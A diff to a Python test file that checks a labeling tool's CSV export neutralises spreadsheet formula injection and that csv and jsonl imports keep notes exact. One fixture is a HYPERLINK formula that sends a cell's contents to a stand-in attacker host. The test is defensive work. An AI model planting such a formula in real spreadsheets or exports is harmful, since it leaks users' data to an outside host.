@@ -176,19 +176,22 @@ def test_a_flags_note_survives_export_and_import(tmp_path, db, records):
 
 
 def test_a_note_a_spreadsheet_would_run_is_exported_inert_and_imported_exact(tmp_path, db, records):
-    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'-1: already quoted by hand"]
     with open_store(db) as store:
         service = LabelingService(store, make_spec(tmp_path))
-        task = service.next_task("alice")
-        service.submit("alice", task, Submission(uuid.uuid4().hex, "flag", note=note))
+        for note in notes:
+            task = service.next_task("alice")
+            service.submit("alice", task, Submission(uuid.uuid4().hex, "flag", note=note))
     out = tmp_path / "labels.csv"
     assert run(["label", "export", "--format", "csv", "--db", db, "--output", str(out)]) == 0
-    (row,) = csv.DictReader(out.open(encoding="utf-8"))
-    assert row["note"] == "'" + note                        # a spreadsheet shows it as text
-    other = _export_and_import_into_another_store(tmp_path, db, records, "csv")
-    with open_store(other) as store:
-        notes = [r["note"] for r in label_rows(store)]
-    assert notes == [note]
+    exported = [row["note"] for row in csv.DictReader(out.open(encoding="utf-8"))]
+    assert exported == ["'" + note for note in notes]       # a spreadsheet shows them as text
+    for fmt in ("csv", "jsonl"):
+        (tmp_path / fmt).mkdir()
+        other = _export_and_import_into_another_store(tmp_path / fmt, db, records, fmt)
+        with open_store(other) as store:
+            assert [r["note"] for r in label_rows(store)] == notes, fmt
+
 
 def test_a_csv_in_a_legacy_encoding_is_a_user_error(tmp_path, db, capsys):
     path = tmp_path / "excel.csv"
